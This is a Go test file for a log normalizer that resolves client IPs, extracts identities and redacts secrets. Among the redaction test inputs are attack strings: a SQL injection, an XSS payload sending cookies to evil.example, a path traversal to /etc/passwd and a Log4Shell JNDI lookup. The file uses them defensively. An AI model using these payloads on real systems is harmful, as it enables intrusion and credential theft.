package enrich

import (
	"encoding/base64"
	"fmt"
	"net/netip"
	"strings"
	"testing"

	"github.com/gatewatch/gatewatch/event"
)

func normalizer(t testing.TB, cfg Config) *Normalizer {
	t.Helper()
	n, err := NewNormalizer(cfg, NormalizerOptions{Key: []byte("a key of this test")})
	if err != nil {
		t.Fatal(err)
	}
	return n
}

func addr(s string) netip.Addr {
	if s == "" {
		return netip.Addr{}
	}
	return netip.MustParseAddr(s)
}

func TestClientBehindProxies(t *testing.T) {
	cdn := Config{TrustedProxies: []string{"203.0.113.0/24", "198.51.100.7"}}
	for _, c := range []struct {
		name                  string
		cfg                   Config
		client, peer, forward string
		want                  string
	}{
		{"no header", Config{}, "192.0.2.1", "", "", "192.0.2.1"},
		{"peer only", Config{}, "", "192.0.2.1", "", "192.0.2.1"},
		{"behind a private proxy", Config{}, "10.0.0.1", "", "192.0.2.1", "192.0.2.1"},
		{"client and private hops", Config{}, "10.0.0.1", "", "192.0.2.1, 10.0.0.9, 172.16.3.3", "192.0.2.1"},
		{"the client wrote the left part", Config{}, "10.0.0.1", "", "1.1.1.1, 192.0.2.1, 10.0.0.9", "192.0.2.1"},
		{"a public peer is not a proxy", Config{}, "192.0.2.1", "", "1.1.1.1", "192.0.2.1"},
		{"a listed peer is", cdn, "203.0.113.5", "", "192.0.2.1", "192.0.2.1"},
		{"listed hops", cdn, "", "10.0.0.1", "192.0.2.1, 198.51.100.7, 203.0.113.9", "192.0.2.1"},
		{"resolved by the gateway", Config{}, "192.0.2.1", "10.0.0.1", "", "192.0.2.1"},
		{"resolved, header there", Config{}, "192.0.2.1", "10.0.0.1", "1.1.1.1, 192.0.2.1", "192.0.2.1"},
		{"all private", Config{}, "10.0.0.1", "", "10.1.1.1, 10.2.2.2", "10.1.1.1"},
		{"all trusted, one public", cdn, "10.0.0.1", "", "10.1.1.1, 203.0.113.5, 10.2.2.2", "203.0.113.5"},
		{"junk hides no public address behind a private one", Config{}, "10.0.0.1", "", "192.0.2.1, unknown, 10.0.0.2", "192.0.2.1"},
		{"junk before the rightmost", Config{}, "10.0.0.1", "", "192.0.2.1, junk, 203.0.113.5", "203.0.113.5"},
		{"empty elements", Config{}, "10.0.0.1", "", "192.0.2.1,, ", "192.0.2.1"},
		{"private is not trusted", Config{DistrustPrivate: true}, "10.0.0.1", "", "192.0.2.1", "10.0.0.1"},
		{"port", Config{}, "10.0.0.1", "", "192.0.2.1:5123", "192.0.2.1"},
		{"brackets", Config{}, "10.0.0.1", "", "[2001:db8::1]:443", "2001:db8::1"},
		{"Forwarded", Config{}, "10.0.0.1", "", `for="[2001:db8::1]:47";proto=https, for=10.0.0.3`, "2001:db8::1"},
		{"zone", Config{}, "fe80::1%eth0", "", "", "fe80::1"},
		{"mapped", Config{}, "::ffff:192.0.2.1", "", "", "192.0.2.1"},
		{"nothing", Config{}, "", "", "", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			var ev event.Event
			ev.Reset()
			ev.ClientIP, ev.Wire.PeerIP, ev.Wire.ForwardedFor = addr(c.client), addr(c.peer), c.forward
			normalizer(t, c.cfg).Normalize(&ev)
			if ev.ClientIP != addr(c.want) {
				t.Errorf("client %v, want %q", ev.ClientIP, c.want)
			}
		})
	}
}

func jwt(claims string) string {
	enc := base64.RawURLEncoding.EncodeToString
	return enc([]byte(`{"alg":"HS256","typ":"JWT"}`)) + "." + enc([]byte(claims)) + "." + enc([]byte("a signature that nobody checks"))
}

func TestIdentity(t *testing.T) {
	token := jwt(`{"sub":"kim","client_id":"web","n":7}`)
	basic := "Basic " + base64.StdEncoding.EncodeToString([]byte("kim:hunter2"))
	key := normalizer(t, Config{}).hash.sum("key:", "k-1")
	session := normalizer(t, Config{}).hash.sum("", "s-1")
	for _, c := range []struct {
		name                 string
		cfg                  Config
		ev                   event.Event
		user, scheme, sessio string
	}{
		{"nobody", Config{}, event.Event{User: "-"}, "", "", ""},
		{"remote user", Config{}, event.Event{User: "kim"}, "kim", "log", ""},
		{"remote user by basic", Config{}, event.Event{User: "kim", AuthScheme: "basic"}, "kim", "basic", ""},
		{"JWT", Config{}, event.Event{Wire: event.Wire{Authorization: "Bearer " + token}}, "kim", "jwt", ""},
		{"JWT alone", Config{}, event.Event{Wire: event.Wire{Authorization: token}}, "kim", "jwt", ""},
		{"JWT in a field", Config{JWTField: "tok"}, event.Event{Wire: event.Wire{Fields: map[string]string{"tok": token}}}, "kim", "jwt", ""},
		{"JWT in the query", Config{}, event.Event{Query: "a=1&access_token=" + token}, "kim", "jwt", ""},
		{"another claim", Config{JWTClaims: []string{"none", "client_id"}}, event.Event{Wire: event.Wire{Authorization: token}}, "web", "jwt", ""},
		{"a number", Config{JWTClaims: []string{"n"}}, event.Event{Wire: event.Wire{Authorization: token}}, "7", "jwt", ""},
		{"basic", Config{}, event.Event{Wire: event.Wire{Authorization: basic}}, "kim", "basic", ""},
		{"API key", Config{}, event.Event{Wire: event.Wire{APIKey: "k-1"}}, key, "key", ""},
		{"API key in the query", Config{}, event.Event{Query: "api_key=k-1"}, key, "key", ""},
		{"opaque bearer token", Config{}, event.Event{Wire: event.Wire{Authorization: "Bearer k-1"}}, key, "key", ""},
		{"cookie", Config{}, event.Event{Wire: event.Wire{Cookie: "a=b; JSESSIONID=s-1"}}, "", "cookie", session},
		{"own cookie", Config{SessionCookies: []string{"Shop"}}, event.Event{Wire: event.Wire{Cookie: "shop=s-1"}}, "", "cookie", session},
		{"user and cookie", Config{}, event.Event{User: "kim", Wire: event.Wire{Cookie: "sid=s-1"}}, "kim", "log", session},
		{"own field first", Config{UserField: "u"}, event.Event{User: "proxy", Wire: event.Wire{Fields: map[string]string{"u": "kim"}}}, "kim", "log", ""},
		{"order", Config{UserSources: []string{"key", "log"}}, event.Event{User: "kim", Wire: event.Wire{APIKey: "k-1"}}, key, "key", ""},
		{"broken JWT", Config{}, event.Event{Wire: event.Wire{Authorization: "eyJhbGciOiJub25lIn0.!!.x"}}, "", "", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			ev := c.ev
			n := normalizer(t, c.cfg)
			n.Normalize(&ev)
			if ev.User != c.user || ev.AuthScheme != c.scheme || ev.Session != c.sessio {
				t.Errorf("user %q by %q, session %q; want %q by %q, session %q", ev.User, ev.AuthScheme, ev.Session, c.user, c.scheme, c.sessio)
			}
			if ev.Wire.Authorization != "" || ev.Wire.Cookie != "" || ev.Wire.APIKey != "" || ev.Wire.Fields != nil {
				t.Error("Wire is not cleared")
			}
		})
	}
}

func TestKeyedHashDependsOnTheKey(t *testing.T) {
	a, b := newKeyedHash([]byte("one")), newKeyedHash([]byte("two"))
	first := a.sum("", "x")
	if again := a.sum("", "x"); again != first || first == b.sum("", "x") || first == a.sum("", "y") {
		t.Error("a keyed hash must be stable, and differ by key and by value")
	}
}

func TestRedact(t *testing.T) {
	token := jwt(`{"sub":"kim"}`)
	r := redactor{names: newSecretNames([]string{"Shop-Pass"})}
	for _, c := range []struct {
		in   *bounds
		text string
		want string
	}{
		{inQuery, "a=1&b=2", "a=1&b=2"},
		{inQuery, "token=abc", "token=[redacted]"},
		{inQuery, "a=1&Password=x%26y&b=2", "a=1&Password=[redacted]&b=2"},
		{inQuery, "user[password]=x&user%5Bpwd%5D=y", "user[password]=[redacted]&user%5Bpwd%5D=[redacted]"},
		{inQuery, "pass%77ord=x", "pass%77ord=[redacted]"},
		{inQuery, "api_key=1&X-Api-Key=2&apikey=3&key=4", "api_key=[redacted]&X-Api-Key=[redacted]&apikey=[redacted]&key=[redacted]"},
		{inQuery, "X-Amz-Credential=AKIA%2F2&X-Amz-Date=2026&X-Amz-Security-Token=t&X-Amz-Signature=s", "X-Amz-Credential=[redacted]&X-Amz-Date=2026&X-Amz-Security-Token=[redacted]&X-Amz-Signature=[redacted]"},
		{inQuery, "shop_pass=x", "shop_pass=[redacted]"},
		{inQuery, "token=", "token="},
		{inQuery, "keyboard=qwerty&monkey=3&tokens=5&max_tokens=100&author=kim", "keyboard=qwerty&monkey=3&tokens=5&max_tokens=100&author=kim"},
		{inQuery, "code=4/0Ab&state=xyz", "code=[redacted]&state=xyz"},
		{inQuery, "code=DE", "code=DE"},
		{inQuery, "next=https%3A%2F%2Fapp%2Fcb%3Ftoken%3Dabc%26x%3D1&z=1", "next=https%3A%2F%2Fapp%2Fcb%3Ftoken%3D[redacted]%26x%3D1&z=1"},
		{inQuery, "next=%252Fcb%253Fa%253D1%2526token%253Dabc%2526x%253D1", "next=%252Fcb%253Fa%253D1%2526token%253D[redacted]%2526x%253D1"},
		{inQuery, "q=" + token, "q=[redacted]"},
		{inQuery, "q=" + strings.ReplaceAll(token, ".", "%2E") + "&r=1", "q=[redacted]&r=1"},
		{inQuery, "url=https://kim:pw@example.com/a", "url=https://[redacted]@example.com/a"},
		{inQuery, "url=https%3A%2F%2Fkim%3Apw%40example.com%2Fa", "url=https%3A%2F%2F[redacted]%40example.com%2Fa"},
		{inQuery, "mail=kim@example.com&t=12:30", "mail=kim@example.com&t=12:30"},
		// Attacks in other parameters stay as they are.
		{inQuery, "id=1'%20OR%201=1--&token=abc", "id=1'%20OR%201=1--&token=[redacted]"},
		{inQuery, "q=1 union select password from users where pass='x'", "q=1 union select password from users where pass='x'"},
		{inQuery, "q=<script>document.location='//evil.example/'+document.cookie</script>", "q=<script>document.location='//evil.example/'+document.cookie</script>"},
		{inQuery, "file=../../etc/passwd&x=${jndi:ldap://evil.example/a}", "file=../../etc/passwd&x=${jndi:ldap://evil.example/a}"},
		{inQuery, "key=<script>alert(1)</script>", "key=<script>alert(1)</script>"},
		{inPath, "/orders/17", "/orders/17"},
		{inPath, "/account;jsessionid=1A2B/orders", "/account;jsessionid=[redacted]/orders"},
		{inPath, "/verify/" + token + "/now", "/verify/[redacted]/now"},
		{inPath, "/keys/monkey.eyJ.txt", "/keys/monkey.eyJ.txt"},
		{inQuery, "https://app.example.com/cb?a=1&access_token=x#id_token=y", "https://app.example.com/cb?a=1&access_token=[redacted]#id_token=[redacted]"},
		{inText, "Agent/1.0 (token=abc; x=1)", "Agent/1.0 (token=[redacted]; x=1)"},
		{inText, "Agent/1.0 Bearer abcdefgh", "Agent/1.0 Bearer [redacted]"},
		{inText, "Mozilla/5.0 (compatible; Bot/2.1; +http://bot.example.com)", "Mozilla/5.0 (compatible; Bot/2.1; +http://bot.example.com)"},
		{inLine, `{"path":"/a","password":"x y","token": "t","n":1}`, `{"path":"/a","password":"[redacted] y","token": "[redacted]","n":1}`},
		{inLine, `{"authorization":"Basic a2ltOnB3","cookie":"a=b; c=d","x":1}`, `{"authorization":"[redacted]","cookie":"[redacted]","x":1}`},
		{inLine, `GET /a?password=x HTTP/1.1`, `GET /a?password=[redacted] HTTP/1.1`},
	} {
		if got := r.all(c.text, c.in); got != c.want {
			t.Errorf("%s\n got %s\nwant %s", c.text, got, c.want)
		} else if again := r.all(got, c.in); again != got {
			t.Errorf("%s: a second time it becomes %s", got, again)
		}
	}
}

func TestNormalizeAllocatesOnlyForSecrets(t *testing.T) {
	n := normalizer(t, Config{})
	in := event.Event{
		ClientIP: addr("192.0.2.1"), Method: "GET", Path: "/orders/17/items", Query: "page=2&sort=name&q=monkey%20bread",
		Referer: "https://shop.example.com/orders?page=1", UserAgent: "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
	}
	if a := testing.AllocsPerRun(100, func() { ev := in; n.Normalize(&ev) }); a != 0 {
		t.Errorf("%v allocations for an event without secrets", a)
	}
}

func TestLoadBalancerWatch(t *testing.T) {
	for _, c := range []struct {
		name    string
		private int // of 100 requests
		addrs   int
		want    int
	}{{"one private address", 100, 1, 1}, {"nearly", 96, 1, 1}, {"mixed", 80, 1, 0}, {"an inner network", 100, 40, 0}, {"public", 0, 1, 0}} {
		t.Run(c.name, func(t *testing.T) {
			w := NewLoadBalancerWatch()
			n, err := NewNormalizer(Config{}, NormalizerOptions{Watch: w})
			if err != nil {
				t.Fatal(err)
			}
			for i := range 3000 {
				ev := event.Event{Source: "gw", ClientIP: addr(fmt.Sprintf("192.0.2.%d", i%250))}
				if i%100 < c.private {
					ev.ClientIP = addr(fmt.Sprintf("10.0.0.%d", i%c.addrs))
				}
				n.Normalize(&ev)
			}
			got := w.TakeWarnings()
			if len(got) != c.want {
				t.Fatalf("%d warnings, want %d: %v", len(got), c.want, got)
			}
			for _, g := range got {
				if g.Share < 0.95 || !strings.Contains(g.Message, "real_ip_header") || !strings.Contains(g.Message, "10.0.0.0") {
					t.Errorf("warning %+v", g)
				}
			}
			if len(w.TakeWarnings()) != 0 {
				t.Error("warned twice")
			}
		})
	}
}

func TestValidateNamesKeyAndValue(t *testing.T) {
	cfg := Config{
		TrustedProxies: []string{"10.0.0.0/33"}, UserSources: []string{"magic", "jwt", "jwt"}, SessionCookies: []string{"--"},
		Pseudonymise: []string{"path"},
	}
	got := fmt.Sprint(cfg.Validate())
	for _, want := range []string{"trusted_proxies", "10.0.0.0/33", "user_sources", "magic", "twice", "session_cookies", "pseudonymise"} {
		if !strings.Contains(got, want) {
			t.Errorf("%q is not in %s", want, got)
		}
	}
	if _, err := NewNormalizer(Config{Pseudonymise: []string{"user"}}, NormalizerOptions{}); err == nil {
		t.Error("pseudonyms without a key are no error")
	}
}
